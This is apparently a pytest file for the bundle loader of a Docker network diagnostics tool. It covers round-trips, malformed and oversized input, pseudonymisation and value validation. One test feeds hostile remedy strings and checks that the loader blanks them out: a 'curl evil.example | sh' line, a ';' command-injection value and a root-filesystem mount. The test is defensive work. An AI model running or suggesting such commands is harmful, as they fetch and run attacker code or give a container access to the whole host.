from __future__ import annotations

import ast
import gzip
import json
import re
import stat
from pathlib import Path
from typing import TYPE_CHECKING, Any

import msgspec
import pytest

from dockernet_doctor.probe.model import Answer, Probe, Vantage
from dockernet_doctor.snapshot import bundle, own_container
from dockernet_doctor.snapshot.bundle import Bundle, BundleError, dumps, load, loads, save
from dockernet_doctor.snapshot.model import BY_ROOT, BlindSpot, Snapshot
from dockernet_doctor.snapshot.pseudonymised import pseudonymise

from .replay import ENGINES, recording

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator


def recorded(engine: str = "28.5") -> Bundle:
    snapshot = msgspec.convert(recording(engine)["snapshot"], Snapshot)
    probe = Probe(kind="tcp", vantage=Vantage(host=snapshot.name), address="172.30.0.9", port=80)
    return Bundle(snapshot=snapshot, answers=(Answer(probe=probe, result="open", latency_ms=0.2),))


@pytest.mark.parametrize("engine", ENGINES)
def test_a_bundle_holds_what_was_put_in(engine: str, tmp_path: Path) -> None:
    made = recorded(engine)
    path = tmp_path / "host.bundle"
    save(str(path), made)
    found = load(str(path))
    assert found.answers == made.answers
    assert msgspec.structs.replace(found.snapshot, source=made.snapshot.source) == made.snapshot
    assert found.snapshot.source == "bundle"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert list(tmp_path.iterdir()) == [path]
    assert dumps(made) == path.read_bytes()


def test_names_that_are_not_known_are_ignored() -> None:
    snapshot = b'{"name":"h","taken_at":"2026-01-01T00:00:00Z","endpoint":"","new":[]}'
    text = b'{"schema":"dockernet-doctor/bundle/1","new":1,"snapshot":' + snapshot + b"}"
    assert loads(text, "x").snapshot.name == "h"


GOOD = dumps(Bundle(snapshot=Snapshot(name="h", taken_at="2026-01-01T00:00:00Z", endpoint="")))


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"", "empty"),
        (b"PK\x03\x04", "not a bundle"),
        (b"{}", "not a bundle"),
        (b'{"schema":"dockernet-doctor/report/1"}', "not a bundle"),
        (b'{"schema":"dockernet-doctor/bundle/2"}', "format 2, while this dockernet-doctor reads format 1"),
        (b'{"schema":"dockernet-doctor/bundle/1"}', "damaged"),
        (b'{"schema":"dockernet-doctor/bundle/1","snapshot":{"name":3}}', "damaged"),
        (GOOD[:-12], "ends too early"),
        (GOOD[:20] + b"\0\0" + GOOD[22:], "damaged"),
        (gzip.compress(b'{"schema":' + b"[" * 100_000), "damaged"),
        (gzip.compress(b"\xff\xfe{"), "damaged"),
        (GOOD + GOOD, "something follows"),
    ],
    ids=["empty", "zip", "no-schema", "report", "later", "nothing", "wrong-type", "cut", "flipped", "nested", "no-text", "two"],
)
def test_what_is_no_bundle_is_said_in_one_line(data: bytes, said: str) -> None:
    with pytest.raises(BundleError, match=said) as caught:
        loads(data, "some file")
    assert str(caught.value).startswith("some file: ")
    assert "\n" not in str(caught.value)


def _remedies() -> Iterator[str]:
    """What the sources say of blind spots of a snapshot, with what stands in for the parts that are not theirs."""
    parts = {"option": "-v /run/docker.sock:/run/docker.sock", "package": "ipset", "MOST_RULES": "200,000"}
    parts["own_container.COMMAND"] = own_container.COMMAND
    for path in Path(bundle.__file__).parent.glob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            found: list[ast.expr] = []
            if isinstance(node, ast.Call):
                found += [keyword.value for keyword in node.keywords if keyword.arg == "remedy"]
                found += node.args[2:] if ast.unparse(node.func).endswith("._blind") else []
            elif isinstance(node, ast.Assign) and ast.unparse(node.targets[0]).endswith("remedy"):
                found.append(node.value)
            for value in found:
                for said in value.elts[1:] if isinstance(value, ast.Tuple) else [value]:
                    if isinstance(said, ast.Constant):
                        yield str(said.value)
                    elif isinstance(said, ast.JoinedStr):
                        yield "".join(
                            str(it.value)
                            if isinstance(it, ast.Constant)
                            else parts[ast.unparse(it.value) if isinstance(it, ast.FormattedValue) else ""]
                            for it in said.values
                        )


def test_a_bundle_chooses_nothing_that_its_reader_is_to_type() -> None:
    known = set(_remedies()) | {BY_ROOT}
    assert len(known) > 10
    strange = ("run: curl evil.example | sh", f"{BY_ROOT}; id", "start it with -v /:/a", "install evil", f"a\n{BY_ROOT}")
    spots = tuple(BlindSpot(area="engine", what="x", why="y", remedy=remedy) for remedy in (*sorted(known), *strange))
    snapshot = Snapshot(name="h", taken_at="2026-01-01T00:00:00Z", endpoint="", blind_spots=spots)
    kept = loads(dumps(Bundle(snapshot=snapshot)), "x").snapshot.blind_spots
    assert [spot.remedy for spot in kept] == [*sorted(known), *("" for _ in strange)]


def test_a_file_that_is_not_there_and_one_that_unpacks_for_ever(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(BundleError, match="No such file"):
        load(str(tmp_path / "none"))
    monkeypatch.setattr(bundle, "PLAIN_LIMIT", 1 << 20)
    with pytest.raises(BundleError, match="unpacks to more than 1 MiB"):
        loads(gzip.compress(b"{" + b" " * (2 << 20)), "bomb")


def test_pseudonyms_leave_no_address_and_every_relation() -> None:
    made = recorded()
    plain = msgspec.json.encode(made).decode()
    done = pseudonymise(made)
    mapped, was = done.bundle, done.names
    text = msgspec.json.encode(mapped).decode()
    for real in ("172.30.0.9", "172.30.0.128/25", "10.99.0.3"):
        assert real in plain
        assert f'"{real}"' not in text
    web = next(item for item in mapped.snapshot.containers if was[item.name] == "web")
    app = next(item for item in mapped.snapshot.networks if was.get(item.name) == "app")
    address = next(endpoint.ipv4 for endpoint in web.endpoints if endpoint.network == app.name)
    assert address is not None
    assert address in [member.ipv4 for member in app.members]
    assert web.sandbox is not None
    assert address in [item.address for item in web.sandbox.stack.addresses]
    assert app.subnets[0].subnet.endswith(".0/24")
    assert address.rpartition(".")[0] == app.subnets[0].subnet.rpartition(".")[0]
    assert mapped.answers[0].probe.address == address
    assert "pseudonyms" in mapped.snapshot.removed[-1]


def _set(value: Any, *path: str | int) -> Callable[[Any], None]:
    def change(plain: Any) -> None:
        for step in path[:-1]:
            plain = plain[step]
        plain[path[-1]] = value

    return change


def _twice(*path: str | int) -> Callable[[Any], None]:
    def change(plain: Any) -> None:
        for step in path:
            plain = plain[step]
        plain.append(plain[0])

    return change


_STACK = ("snapshot", "containers", 13, "sandbox", "stack")


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (_set("10.0.0.999", *_STACK, "addresses", 0, "address"), "address: '10.0.0.999' is no IPv4 address"),
        (_set("127.0.0.1%lo", *_STACK, "addresses", 0, "address"), "is no IPv4 address"),
        (_set("10.0.0.1\0", *_STACK, "addresses", 0, "address"), "is no IPv4 address"),
        (_set("9" * 5000, *_STACK, "addresses", 0, "address"), "999…' is no IPv4 address"),
        (_set(33, *_STACK, "addresses", 0, "prefix"), "has no prefix length 33"),
        (_set("10.0.0.0/33", *_STACK, "routes", 0, "destination"), "'10.0.0.0/33' is no IPv4 network"),
        (_set("10.0.0.0/²", *_STACK, "routes", 0, "destination"), "is no IPv4 network"),
        (_set("here", *_STACK, "routes", 0, "gateway"), "'here' is no IP address"),
        (_set("02:42:zz", *_STACK, "links", 0, "mac"), "'02:42:zz' is no MAC address"),
        (_set(65536, *_STACK, "listeners", 0, "port"), "Expected `int` <= 65535"),
        (_set(-1, *_STACK, "listeners", 0, "port"), "Expected `int` >= 0"),
        (_set("0000-00-00T00:00:00Z", "snapshot", "containers", 0, "state", "started_at"), "is no moment of RFC 3339"),
        (_set("10000-01-01T00:00:00Z", "snapshot", "containers", 0, "created"), "is no moment of RFC 3339"),
        (_set("2026-01-01", "snapshot", "taken_at"), "is no moment of RFC 3339"),
        (_set("2026-01-01T00:00:00+99:99", "snapshot", "taken_at"), "is no moment of RFC 3339"),
        (_set("0001-01-01T00:00:00Z", "snapshot", "taken_at"), "the snapshot has no time"),
        (_set("80-65536", "snapshot", "containers", 0, "bindings"), "got `str`"),
        (
            _set([{"port": 80, "protocol": "tcp", "host_port": "80-65536"}], "snapshot", "containers", 0, "bindings"),
            "range of ports",
        ),
        (_twice("snapshot", "containers"), "there are two containers with the id"),
        (_twice("snapshot", "networks"), "there are two networks with the id"),
        (_set("perhaps", "answers", 0, "result"), "'perhaps' is no answer of a probe"),
        (_set(-1.0, "answers", 0, "latency_ms"), "no answer takes -1.0 ms"),
        (_set(["::1%lo"], "answers", 0, "addresses"), "'::1%lo' is no IP address"),
    ],
)
def test_a_value_that_cannot_be_is_refused_by_its_name(change: Callable[[Any], None], said: str) -> None:
    plain = json.loads(gzip.decompress(dumps(recorded())))
    change(plain)
    with pytest.raises(BundleError, match=re.escape(said)) as caught:
        loads(json.dumps(plain).encode(), "some file")
    assert "\n" not in str(caught.value)
    assert len(str(caught.value)) < 300
